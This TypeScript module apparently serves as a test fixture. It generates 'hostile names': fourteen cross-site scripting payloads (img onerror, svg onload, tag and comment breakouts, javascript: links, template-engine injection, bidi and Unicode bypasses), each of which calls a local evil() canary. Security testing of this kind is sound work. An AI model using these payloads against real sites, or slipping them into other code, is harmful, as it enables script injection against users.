// Makes names that run a script if a page treats text as HTML, SVG, a URL or a script.

/** A name that calls `evil(where)` if any part of it is executed. */
export interface HostileName {
  readonly kind: string;
  /** Makes the name for one part of the page. */
  of(where: string): string;
}

const kinds: Readonly<Record<string, (call: string) => string>> = {
  image: (call) => `<img src=x onerror="${call}" data-evil>`,
  script: (call) => `<script data-evil>${call}</script>`,
  svg: (call) => `"><svg data-evil onload="${call}">`,
  'end of text': (call) => `</title></style></textarea></script><script data-evil>${call}</script>`,
  'end of SVG': (call) => `]]></text></svg><script data-evil>${call}</script>`,
  comment: (call) => `--><script data-evil>${call}</script><!--`,
  frame: (call) => `<iframe data-evil srcdoc="<script>parent.${call}</script>"></iframe>`,
  attribute: (call) => `' onmouseover=${call} autofocus onfocus=${call} x='" onmouseover="${call}`,
  link: (call) => `javascript:${call}`,
  template: (call) => `\${${call}}{{constructor.constructor("${call}")()}}<%= ${call} %>`,
  lines: (call) => `\u2028${call}\u2029//`,
  // Right-to-left text, and characters that end it.
  bidi: (call) => `\u202e${call}\u202c\u2066<b data-evil>`,
  entity: (call) => `&lt;script&gt;&#x3c;img src=x onerror=${call} data-evil&#x3e;`,
  unicode: (call) => `\ud83d\ude00\ufeff\u0130<\u017fcript data-evil>${call}</\u017fcript>`,
};

/** Names without commas and semicolons, so that list formats keep them whole. */
export const hostileNames: readonly HostileName[] = Object.entries(kinds).map(([kind, make]) => ({
  kind,
  of: (where) => make(`evil('${where}')`).replaceAll(/[;,]/g, ''),
}));
